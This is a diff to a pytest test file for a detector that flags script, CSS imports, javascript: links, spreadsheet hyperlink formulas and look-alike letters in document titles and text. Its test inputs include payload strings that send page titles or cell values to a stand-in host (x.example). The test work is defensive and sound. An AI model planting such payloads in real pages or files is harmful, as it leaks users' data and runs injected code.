@@ -47,7 +47,7 @@ def named(document: Document) -> list[Noticed]:
 
 @pytest.mark.parametrize("title", CARRIED)
 def test_code_and_pictures_of_a_title_are_named(title: str) -> None:
-    assert [each for each in named(document(title)) if each.what.endswith("in its title")]
+    assert [each.what.endswith("in its title") for each in named(document(title))] == [True]
     kept = hostile.bare(title)
     assert not [char for char in "<>()" if char in kept] and {"levels", "of", "the", "canal"} <= set(kept.split())
 
@@ -64,6 +64,10 @@ def test_the_other_lines_that_are_shown_of_a_source_are_looked_through_too() -> 
         assert [each.what for each in found] == [f"code that a program may run (HTML), in its {field}"]
 
 
+def test_letters_that_only_look_latin_are_named_in_a_title() -> None:
+    assert named(document("The librаry of Tarnby")) and not named(document("Библиотека Tarnby"))
+
+
 def test_a_heading_is_read_without_its_code() -> None:
     text = "## Levels <script>fetch('//x.example')</script> in 2024\n\nThe level of the canal rose by 12 cm."
     library = Library([document("Water levels", text)])
@@ -75,6 +79,9 @@ def test_a_heading_is_read_without_its_code() -> None:
     [
         ("![logo](https://a.example/l.png) Ferry [![Build](https://ci.example/b.svg)](https://ci.example)", "Ferry"),
         ("![The Ferry](logo.png)", "The Ferry"),
+        ('<img src="https://a.example/l.png" width="80"> The Ferry', "The Ferry"),
+        ('<img src="https://a.example/l.png" alt="The Ferry" width="80">', "The Ferry"),
+        ("[The Ferry](https://a.example/Ferry_(ship)) of 1921", "The Ferry of 1921"),
         ("[The Ferry](https://a.example) of 1921", "The Ferry of 1921"),
     ],
 )
@@ -88,6 +95,8 @@ def test_a_picture_in_a_heading_is_none_of_its_words_where_there_are_others(head
     [
         "<script>fetch('//x.example/?d=' + document.title)</script>",
         "<SCRIPT>\nlocation = '//x.example'\n</SCRIPT>",
+        "<style>@import url(https://x.example/a.css);</style>",
+        "<style>p { background: url('//x.example/a') }</style>",
         "[the tables](javascript:alert(1))",
         '<a href="javascript:alert(1)">',
         '=hyperlink("https://x.example/?"&A1)',
@@ -103,6 +112,8 @@ def test_code_in_a_text_is_named_however_it_is_written(code: str) -> None:
     [
         "Put your code between <script> and </script>, and close each tag.",
         "The tag <script src=app.js> loads a file; <img src=https://a.example/l.png> shows one.",
+        "Write your rules between <style> and </style>, or load a sheet with @import.",
+        "<style>p { color: red }</style> makes a paragraph red.",
         "JavaScript: a language. Data: text, html and more.",
         "![Level](https://canal.example/level.png)",
     ],
